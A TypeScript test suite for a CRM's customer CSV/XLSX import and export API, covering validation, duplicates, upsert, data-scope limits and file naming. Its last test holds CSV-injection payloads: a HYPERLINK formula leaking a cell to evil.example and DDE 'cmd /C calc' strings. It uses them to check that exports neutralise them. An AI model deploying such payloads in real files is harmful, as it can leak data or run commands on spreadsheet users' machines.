import { approvalMigrations } from '@kehu/server-approval';
import { createTestApp, TestApp, violatesContract } from '@kehu/server-core/testing';
import { permissionsMigrations, PermissionsModule } from '@kehu/server-permissions';
import { adminToken, createUser } from '@kehu/server-permissions/testing';
import { settingsMigrations, SettingsModule } from '@kehu/server-settings';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Response as SuperagentResponse } from 'superagent';
import { CustomerModule } from '../customer.module';
import { customerMigrations } from '../migrations';
import { CustomerImportService } from './customer-import.service';
import { softDeleteCustomersWhere } from '../testing/customer-fixtures';

type Row = Record<string, string>;

const HEADERS = [
  'name',
  'shortName',
  'industry',
  'region',
  'address',
  'phone',
  'description',
  'level',
  'creditRating',
  'externalId',
  'contactName',
  'contactMobile',
];

function csv(rows: Row[], headers = HEADERS): Buffer {
  const quote = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return Buffer.from([headers.join(','), ...rows.map((r) => headers.map((h) => quote(r[h] ?? '')).join(','))].join('\n'));
}

let phoneSeq = 0;
function customer(name: string, extra: Row = {}): Row {
  phoneSeq++;
  return {
    name,
    address: '江苏省靖江市人民路 88 号',
    industry: 'hvac',
    phone: `0523-8${String(4000000 + phoneSeq)}`,
    description: '导入测试',
    ...extra,
  };
}

/** A supertest parser that keeps the body as bytes (the response is the raw Node stream here). */
const binary = (res: SuperagentResponse, cb: (err: Error | null, body: Buffer) => void) => {
  const stream = res as unknown as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => cb(null, Buffer.concat(chunks)));
};

async function xlsxRows(buffer: Buffer): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const out: string[][] = [];
  wb.worksheets[0].eachRow((row) => out.push((row.values as unknown[]).slice(1).map((v) => (v == null ? '' : String(v)))));
  return out;
}

describe('customer import and export', () => {
  let t: TestApp;
  let admin: string;
  let rep: { id: string; token: string };

  beforeAll(async () => {
    t = await createTestApp({
      imports: [PermissionsModule, SettingsModule, CustomerModule],
      migrations: [...permissionsMigrations, ...settingsMigrations, ...approvalMigrations, ...customerMigrations],
    });
    admin = await adminToken(t);
    // A SELF-scope rep who may export (the built-in sales_rep role has no customer:export).
    const role = await t.http
      .post('/api/v1/roles')
      .auth(admin, { type: 'bearer' })
      .send({
        code: 'rep_exporter',
        name: '可导出的客户经理',
        dataScope: 'SELF',
        permissions: ['customer:read', 'customer:write', 'customer:export'],
      });
    expect(role.status).toBe(201);
    rep = await createUser(t, admin, { username: 'rep1', roles: ['rep_exporter'] });
  });
  afterAll(() => t.close());

  const upload = (token: string, file: Buffer, query = '', name = 'customers.csv') =>
    t.http.post(`/api/v1/customers/import${query}`).auth(token, { type: 'bearer' }).attach('file', file, name);
  const count = async () => Number((await t.db.query(`SELECT count(*)::int AS n FROM customer WHERE deleted_at IS NULL`))[0].n);

  it('serves the template as CSV and XLSX with Chinese headers and an example row, before customers/:id', async () => {
    const res = await t.http.get('/api/v1/customers/import/template?format=csv').auth(admin, { type: 'bearer' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toContain('customer-import-template.csv');
    const [headers, example] = parse(res.text.replace(/^\uFEFF/, '')) as string[][];
    expect(headers.slice(0, 3)).toEqual(['客户全称', '简称', '客户分类']);
    expect(headers).toContain('联系人手机');
    expect(example[0]).toBe('靖江市春意空调有限公司');

    const x = await t.http.get('/api/v1/customers/import/template?format=xlsx').auth(admin, { type: 'bearer' }).buffer(true).parse(binary);
    expect(x.status).toBe(200);
    const rows = await xlsxRows(x.body as Buffer);
    expect(rows[0][0]).toBe('客户全称');
    expect(rows[1][0]).toBe('靖江市春意空调有限公司');

    // The template itself imports (dry run): one row, created.
    const dry = await upload(admin, Buffer.from(res.text), '?dryRun=true');
    expect(dry.body.totals).toEqual({ created: 1, updated: 0, duplicate: 0, rejected: 0 });

    // Static paths win over customers/:id (which would answer 400 "not a UUID").
    expect((await t.http.get('/api/v1/customers/export').auth(admin, { type: 'bearer' })).status).toBe(200);
  });

  it('refuses a missing, garbage, headerless or oversized upload with a problem naming file', async () => {
    const none = await t.http.post('/api/v1/customers/import').auth(admin, { type: 'bearer' }).field('other', 'x');
    expect(none.status).toBe(400);
    expect(none.body.errors[0].field).toBe('file');

    const png = await upload(
      admin,
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
      '',
      'x.png',
    );
    expect(png.status).toBe(400);
    expect(png.body.errors[0].field).toBe('file');

    const zip = await upload(admin, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100, 7)]), '', 'x.xlsx');
    expect(zip.status).toBe(400);
    expect(zip.body.errors[0].field).toBe('file');

    const headerless = await upload(admin, Buffer.from('foo,bar\n1,2\n'));
    expect(headerless.status).toBe(400);
    expect(headerless.body.errors[0]).toMatchObject({ field: 'file' });

    const wrongField = await t.http
      .post('/api/v1/customers/import')
      .auth(admin, { type: 'bearer' })
      .attach('upload', Buffer.from('a'), 'a.csv');
    expect(wrongField.status).toBe(400);
    expect(wrongField.body.errors[0].field).toBe('file');

    const big = await upload(admin, Buffer.alloc(50 * 1024 * 1024 + 1, 0x41));
    expect(big.status).toBe(413);
    expect(big.body.errors[0].field).toBe('file');
    expect(await count()).toBe(0);
  });

  it('needs customer:import', async () => {
    const res = await upload(rep.token, csv([customer('越权导入有限公司')]));
    expect(res.status).toBe(403);
    expect((await t.http.get('/api/v1/customers/import/template').auth(rep.token, { type: 'bearer' })).status).toBe(403);
  });

  describe('a mixed file', () => {
    let existingId: string;
    let file: Buffer;

    beforeAll(async () => {
      const existing = await t.http.post('/api/v1/customers').auth(admin, { type: 'bearer' }).send({
        name: '泰州市先锋机械有限公司',
        address: '泰州市',
        industry: 'machinery',
        phone: '0523-86000000',
        description: '已有客户',
      });
      expect(existing.status).toBe(201);
      existingId = existing.body.id;
      file = csv([
        /* 2 */ customer('靖江市春意空调有限公司', {
          shortName: '春意空调',
          region: '江苏省',
          level: 'Key prospect',
          creditRating: '4',
          externalId: 'ERP-1',
          contactName: '王建国',
          contactMobile: '13800138000',
        }),
        /* 3 */ customer('上海申达电子有限公司', { industry: '石油' }),
        /* 4 */ customer('杭州西湖软件有限公司', { address: '' }),
        /* 5 */ customer('靖江市春意空调公司'),
        /* 6 */ customer('泰州市先锋机械公司'),
        /* 7 */ customer('Acme Trading Co., Ltd.', { industry: 'Wholesale and retail', creditRating: '9' }),
        /* 8 */ customer('Acme Logistics Ltd', { industry: '交通物流', contactMobile: '13900000000' }),
        /* 9 */ customer('南京金陵化工有限公司', { industry: '化工', phone: '0523-86000000' }),
        /* 10 */ customer('无锡太湖纺织有限公司', { industry: 'textile', region: 'jiangsu' }),
      ]);
    });

    const expected = () => [
      { row: 2, outcome: 'created' },
      { row: 3, outcome: 'rejected', field: 'industry', reason: '"石油" is not an item of the industry dictionary' },
      { row: 4, outcome: 'rejected', field: 'address', reason: 'is required' },
      { row: 5, outcome: 'duplicate', field: 'name', reason: 'the name repeats row 2 of this file' },
      { row: 6, outcome: 'duplicate', field: 'name', customerId: existingId, reason: expect.stringContaining('泰州市先锋机械有限公司') },
      { row: 7, outcome: 'rejected', field: 'creditRating', reason: 'must not be greater than 5' },
      { row: 8, outcome: 'rejected', field: 'contactName', reason: 'is required when other contact columns are filled' },
      { row: 9, outcome: 'duplicate', field: 'phone', customerId: existingId },
      { row: 10, outcome: 'created' },
    ];

    it('dry run reports every row and writes nothing', async () => {
      const before = await count();
      const audits = Number((await t.db.query(`SELECT count(*)::int AS n FROM audit_log`))[0].n);
      const res = await upload(admin, file, '?dryRun=true');
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ dryRun: true, mode: 'create', totals: { created: 2, updated: 0, duplicate: 3, rejected: 4 } });
      expect(res.body.rows).toEqual(expected().map((r) => expect.objectContaining(r)));
      expect(res.body.rows[0].customerId).toBeUndefined();
      expect(await count()).toBe(before);
      expect(Number((await t.db.query(`SELECT count(*)::int AS n FROM audit_log`))[0].n)).toBe(audits);
      expect((await t.db.query(`SELECT count(*)::int AS n FROM contact`))[0].n).toBe(0);
    });

    it('commits valid rows with codes, labels stored as codes, primary contact, history and one audit row', async () => {
      const res = await upload(admin, file);
      expect(res.status).toBe(200);
      expect(res.body.totals).toEqual({ created: 2, updated: 0, duplicate: 3, rejected: 4 });
      expect(res.body.rows).toEqual(expected().map((r) => expect.objectContaining(r)));
      const created = res.body.rows[0];
      expect(created.code).toMatch(/^KH\d{12}$/);
      const got = await t.http.get(`/api/v1/customers/${created.customerId}`).auth(admin, { type: 'bearer' });
      expect(got.body).toMatchObject({
        name: '靖江市春意空调有限公司',
        shortName: '春意空调',
        industry: 'hvac',
        region: 'jiangsu',
        level: 'key_prospect',
        creditRating: 4,
        externalId: 'ERP-1',
        status: 'POTENTIAL',
        // The importer vouches for the rows: protected from the import, no review.
        stage: 'POTENTIAL_PROTECTED',
        protectionUntil: new Date(t.clock.now().getTime() + 30 * 86_400_000).toISOString(),
        code: created.code,
      });
      const contacts = await t.db.query(`SELECT name, mobile, is_primary FROM contact WHERE customer_id = $1`, [created.customerId]);
      expect(contacts).toEqual([{ name: '王建国', mobile: '13800138000', is_primary: true }]);
      const history = await t.db.query(`SELECT event FROM customer_history WHERE customer_id = $1`, [created.customerId]);
      expect(history).toEqual([{ event: 'IMPORTED' }]);
      const audit = await t.db.query(`SELECT after FROM audit_log WHERE action = 'IMPORT'`);
      expect(audit).toHaveLength(1);
      expect(audit[0].after.totals).toEqual({ created: 2, updated: 0, duplicate: 3, rejected: 4 });
      // Found by the search and duplicate check like any customer.
      const search = await t.http.get('/api/v1/customers?q=春意').auth(admin, { type: 'bearer' });
      expect(search.body.items.map((c: { id: string }) => c.id)).toContain(created.customerId);
    });

    it('is idempotent: the same file again creates nothing; upsert updates the matches', async () => {
      const before = await count();
      const again = await upload(admin, file);
      expect(again.body.totals).toEqual({ created: 0, updated: 0, duplicate: 5, rejected: 4 });
      expect(await count()).toBe(before);

      const upsert = await upload(admin, file, '?mode=upsert');
      expect(upsert.body.totals).toMatchObject({ created: 0, rejected: 4 });
      expect(upsert.body.rows[0]).toMatchObject({ row: 2, outcome: 'updated' });
      expect(upsert.body.rows[8]).toMatchObject({ row: 10, outcome: 'updated' });
      // 泰州市先锋机械公司 normalises to the existing customer's name: upsert updates it.
      expect(upsert.body.rows[4]).toMatchObject({ row: 6, outcome: 'updated', customerId: existingId });
      expect(await count()).toBe(before);
      const contacts = await t.db.query(`SELECT count(*)::int AS n FROM contact WHERE name = '王建国'`);
      expect(contacts[0].n).toBe(1);
    });
  });

  it('upsert matches by externalId first and updates only filled cells', async () => {
    const first = await upload(
      admin,
      csv([customer('常州龙城电气有限公司', { externalId: 'ERP-900', shortName: '龙城电气', creditRating: '3' })]),
    );
    expect(first.body.rows[0].outcome).toBe('created');
    const id = first.body.rows[0].customerId;
    const renamed = await upload(
      admin,
      csv([customer('常州龙城电气设备有限公司', { externalId: 'ERP-900', creditRating: '5' })]),
      '?mode=upsert',
    );
    expect(renamed.body.rows[0]).toMatchObject({ outcome: 'updated', customerId: id });
    const got = await t.http.get(`/api/v1/customers/${id}`).auth(admin, { type: 'bearer' });
    expect(got.body).toMatchObject({ name: '常州龙城电气设备有限公司', shortName: '龙城电气', creditRating: 5, version: 2 });
  });

  it('retries a batch the database refuses row by row, so only the offending row is lost', async () => {
    const taken = await t.http.post('/api/v1/customers').auth(admin, { type: 'bearer' }).send({
      name: '扬州运河食品有限公司',
      address: '扬州',
      industry: 'food',
      phone: '0514-87000000',
      description: '并发写入',
    });
    expect(taken.status).toBe(201);
    const importer = t.app.get(CustomerImportService);
    // The check sees nothing (as if the other writer committed just after it): the INSERT hits the unique index.
    const spy = jest.spyOn(importer, 'lookupExisting').mockResolvedValueOnce([]);
    try {
      const res = await upload(
        admin,
        csv([customer('镇江香醋有限公司'), customer('扬州运河食品有限公司'), customer('苏州园林设计有限公司')]),
      );
      expect(res.status).toBe(200);
      expect(res.body.totals).toEqual({ created: 2, updated: 0, duplicate: 1, rejected: 0 });
      expect(res.body.rows.map((r: { outcome: string }) => r.outcome)).toEqual(['created', 'duplicate', 'created']);
      expect(res.body.rows[1]).toMatchObject({ field: 'name', customerId: taken.body.id });
    } finally {
      spy.mockRestore();
    }
    const names = await t.db.query(`SELECT count(*)::int AS n FROM customer WHERE name = '扬州运河食品有限公司'`);
    expect(names[0].n).toBe(1);
  });

  it('accepts Chinese headers, a UTF-8 BOM, and GBK-encoded CSV', async () => {
    const headers = ['客户名称', '行业', '地址', '电话', '客户描述', '联系人', '联系人职务'];
    const text = `${headers.join(',')}\n淮安市清江浦医疗器械有限公司,医疗器械,淮安市,0517-83000001,医院设备,李四,采购经理\n`;
    const bom = await upload(admin, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), '?dryRun=true');
    expect(bom.body.rows).toEqual([{ row: 2, outcome: 'created' }]);
    const gbk = new TextEncoder().encode(text); // UTF-8; then transcode to GB18030 through the decoder's inverse table
    const encoded = Buffer.from(encodeGbk(new TextDecoder().decode(gbk)));
    const res = await upload(admin, encoded);
    expect(res.body.rows[0]).toMatchObject({ outcome: 'created' });
    const got = await t.http.get(`/api/v1/customers/${res.body.rows[0].customerId}`).auth(admin, { type: 'bearer' });
    expect(got.body).toMatchObject({ name: '淮安市清江浦医疗器械有限公司', industry: 'medical' });
  });

  it('exports within data scope: a SELF rep gets exactly the GET /customers total, as CSV, with labels and owner names', async () => {
    for (const name of ['宿迁市洋河酒业有限公司', '连云港港口物流有限公司']) {
      const res = await t.http
        .post('/api/v1/customers')
        .auth(rep.token, { type: 'bearer' })
        .send({
          name,
          address: '江苏',
          industry: 'food',
          region: 'jiangsu',
          phone: `0518-8${Math.floor(1000000 + Math.random() * 8999999)}`,
          description: '代表自己的客户',
        });
      expect(res.status).toBe(201);
    }
    const list = await t.http.get('/api/v1/customers').auth(rep.token, { type: 'bearer' });
    const res = await t.http.get('/api/v1/customers/export?format=csv').auth(rep.token, { type: 'bearer' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const [headers, ...rows] = parse(res.text.replace(/^\uFEFF/, '')) as string[][];
    expect(rows).toHaveLength(list.body.total);
    expect(rows).toHaveLength(2);
    const at = (h: string) => headers.indexOf(h);
    expect(rows.map((r) => r[at('客户全称')]).sort()).toEqual(['宿迁市洋河酒业有限公司', '连云港港口物流有限公司']);
    expect(rows[0][at('行业')]).toBe('食品饮料');
    expect(rows[0][at('地区')]).toBe('江苏省');
    expect(rows[0][at('跟进人')]).toBe('rep1');
    expect(rows[0][at('状态')]).toBe('潜在客户');

    const all = await t.http.get('/api/v1/customers?pageSize=1').auth(admin, { type: 'bearer' });
    const adminCsv = await t.http.get('/api/v1/customers/export').auth(admin, { type: 'bearer' });
    expect(parse(adminCsv.text.replace(/^\uFEFF/, '')).length - 1).toBe(all.body.total);
    const audit = await t.db.query(`SELECT after FROM audit_log WHERE action = 'EXPORT' AND actor_name = 'rep1'`);
    expect(audit[0].after).toMatchObject({ format: 'csv', rows: 2 });
  });

  it('names the file by the business day (Asia/Shanghai), not the UTC date, and heads its columns with the form labels (docs/glossary.md)', async () => {
    const before = t.clock.now();
    try {
      // 07:30 on 7 December in Shanghai is still 6 December in UTC.
      t.clock.set('2026-12-06T23:30:00.000Z');
      // Signed in at that time (a token from the suite's start would have expired).
      const token = await adminToken(t);
      const morning = await t.http.get('/api/v1/customers/export?format=csv').auth(token, { type: 'bearer' });
      expect(morning.status).toBe(200);
      expect(morning.headers['content-disposition']).toBe('attachment; filename="customers-20261207.csv"');
      const [headers] = parse(morning.text.replace(/^\uFEFF/, '')) as string[][];
      expect(headers).toEqual(expect.arrayContaining(['客户全称', '法定代表人', '注册资本', 'ERP 编号', '跟进人', '保护截止']));
      expect(headers).not.toContain('客户名称');
      // 23:30 in Shanghai is 15:30 UTC, the same day in both.
      t.clock.set('2026-12-07T15:30:00.000Z');
      const evening = await t.http.get('/api/v1/customers/export?format=xlsx').auth(await adminToken(t), { type: 'bearer' }).buffer(true).parse(binary);
      expect(evening.headers['content-disposition']).toBe('attachment; filename="customers-20261207.xlsx"');
      t.clock.set('2026-12-07T16:30:00.000Z');
      const nextDay = await t.http.get('/api/v1/customers/export?format=csv').auth(await adminToken(t), { type: 'bearer' });
      expect(nextDay.headers['content-disposition']).toBe('attachment; filename="customers-20261208.csv"');
    } finally {
      t.clock.set(before);
    }
  });

  it('exports with the list filters', async () => {
    for (const query of ['industry=food', 'q=春意', 'region=jiangsu', 'status=POTENTIAL&industry=hvac', `ownerId=${rep.id}`]) {
      const list = await t.http.get(`/api/v1/customers?${query}`).auth(admin, { type: 'bearer' });
      const res = await t.http.get(`/api/v1/customers/export?${query}`).auth(admin, { type: 'bearer' });
      expect(res.status).toBe(200);
      expect({ query, rows: parse(res.text.replace(/^\uFEFF/, '')).length - 1 }).toEqual({ query, rows: list.body.total });
    }
    const bad = await violatesContract(t.http.get('/api/v1/customers/export?format=pdf')).auth(admin, { type: 'bearer' });
    expect(bad.status).toBe(400);
  });

  it('round-trips through XLSX: export, remove, import recreates the same customers', async () => {
    const res = await t.http
      .get('/api/v1/customers/export?format=xlsx&industry=hvac')
      .auth(admin, { type: 'bearer' })
      .buffer(true)
      .parse(binary);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const sheet = await xlsxRows(res.body as Buffer);
    const before = (await t.http.get('/api/v1/customers?industry=hvac&pageSize=200').auth(admin, { type: 'bearer' })).body.items as Array<
      Record<string, unknown>
    >;
    expect(sheet.length - 1).toBe(before.length);
    expect(before.length).toBeGreaterThan(3);

    // Re-importing over the live customers changes nothing…
    const same = await upload(admin, res.body as Buffer, '', 'customers.xlsx');
    expect(same.body.totals).toEqual({ created: 0, updated: 0, duplicate: before.length, rejected: 0 });
    // …and after they are gone it brings them back with the same data.
    await softDeleteCustomersWhere(t, `industry = 'hvac'`);
    const back = await upload(admin, res.body as Buffer, '', 'customers.xlsx');
    expect(back.body.totals).toEqual({ created: before.length, updated: 0, duplicate: 0, rejected: 0 });
    const after = (await t.http.get('/api/v1/customers?industry=hvac&pageSize=200').auth(admin, { type: 'bearer' })).body.items as Array<
      Record<string, unknown>
    >;
    const fields = ['name', 'shortName', 'industry', 'region', 'level', 'address', 'phone', 'creditRating', 'description', 'externalId'];
    const pick = (c: Record<string, unknown>) => Object.fromEntries(fields.map((f) => [f, c[f]]));
    const byName = (a: Record<string, unknown>, b: Record<string, unknown>) => String(a.name).localeCompare(String(b.name));
    expect(after.map(pick).sort(byName)).toEqual(before.map(pick).sort(byName));
    const contact = await t.db.query(
      `SELECT k.name FROM contact k JOIN customer c ON c.id = k.customer_id WHERE c.deleted_at IS NULL AND c.name = '靖江市春意空调有限公司'`,
    );
    expect(contact).toEqual([{ name: '王建国' }]);
  });

  it('writes formula-looking text to CSV with a leading apostrophe, to XLSX as typed text, and imports the CSV back unchanged', async () => {
    // Each a classic CSV-injection payload (OWASP): a spreadsheet would run them if written as they are.
    const payload = {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"点击")注入测试有限公司',
      shortName: '+注入',
      address: "-2+3+cmd|' /C calc'!A0",
      description: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      legalRepresentative: '=1+1',
    };
    const created = await t.http
      .post('/api/v1/customers')
      .auth(admin, { type: 'bearer' })
      .send({ ...payload, industry: 'it', phone: '0523-86660001' });
    expect(created.status).toBe(201);
    const contact = await t.http.post(`/api/v1/customers/${created.body.id}/contacts`).auth(admin, { type: 'bearer' }).send({ name: '=1+2', mobile: '13866660001' });
    expect(contact.status).toBe(201);
    const query = `q=${created.body.code}`;

    const file = await t.http.get(`/api/v1/customers/export?format=csv&${query}`).auth(admin, { type: 'bearer' });
    expect(file.status).toBe(200);
    const [headers, ...rows] = parse(file.text.replace(/^\uFEFF/, '')) as string[][];
    expect(rows).toHaveLength(1);
    const cell = (h: string) => rows[0][headers.indexOf(h)];
    expect(cell('客户全称')).toBe(`'${payload.name}`);
    expect(cell('简称')).toBe(`'${payload.shortName}`);
    expect(cell('地址')).toBe(`'${payload.address}`);
    expect(cell('客户描述')).toBe(`'${payload.description}`);
    expect(cell('法定代表人')).toBe(`'${payload.legalRepresentative}`);
    expect(cell('联系人')).toBe("'=1+2");
    // No cell of the file starts like a formula; harmless cells are untouched.
    expect(rows[0].filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cell('电话')).toBe('0523-86660001');

    const xlsx = await t.http.get(`/api/v1/customers/export?format=xlsx&${query}`).auth(admin, { type: 'bearer' }).buffer(true).parse(binary);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const nameCell = sheet.getRow(2).getCell(header.indexOf('客户全称'));
    expect(nameCell.type).toBe(ExcelJS.ValueType.String);
    expect(nameCell.value).toBe(payload.name);
    expect(sheet.getRow(2).getCell(header.indexOf('地址')).value).toBe(payload.address);

    // The exported CSV imports back as it was entered, without the apostrophes.
    await softDeleteCustomersWhere(t, `id = '${created.body.id}'`);
    const back = await upload(admin, Buffer.from(file.text), '', 'customers.csv');
    expect(back.body.totals).toEqual({ created: 1, updated: 0, duplicate: 0, rejected: 0 });
    const again = (await t.http.get(`/api/v1/customers?q=${encodeURIComponent('注入测试')}`).auth(admin, { type: 'bearer' })).body.items;
    expect(again).toEqual([expect.objectContaining(payload)]);
  });
});

/** Minimal GB18030 encoder for the test: asks the platform decoder which two bytes give each character. */
function encodeGbk(text: string): number[] {
  const decoder = new TextDecoder('gb18030');
  const table = new Map<string, number[]>();
  const wanted = new Set([...text].filter((c) => c.charCodeAt(0) > 0x7f));
  for (let hi = 0x81; hi <= 0xfe && table.size < wanted.size; hi++) {
    for (let lo = 0x40; lo <= 0xfe; lo++) {
      const ch = decoder.decode(new Uint8Array([hi, lo]));
      if (wanted.has(ch) && !table.has(ch)) table.set(ch, [hi, lo]);
    }
  }
  return [...text].flatMap((c) => (c.charCodeAt(0) <= 0x7f ? [c.charCodeAt(0)] : (table.get(c) ?? [0x3f])));
}
